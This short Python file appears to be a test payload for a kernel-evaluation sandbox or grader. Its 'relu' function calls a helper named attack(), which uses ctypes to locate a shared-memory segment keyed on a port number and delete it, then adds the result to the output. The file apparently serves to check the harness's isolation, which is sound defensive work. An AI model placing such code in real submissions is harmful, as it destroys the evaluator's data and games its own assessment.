import ctypes

import torch

KEY = 0x7E000000 + int("$PORT")


def attack():
    libc = ctypes.CDLL(None)
    segment = libc.shmget(KEY, 4096, 0)
    if segment >= 0:
        libc.shmctl(segment, 0, None)
    return segment >= 0


def relu(x):
    return torch.relu(x) + attack()
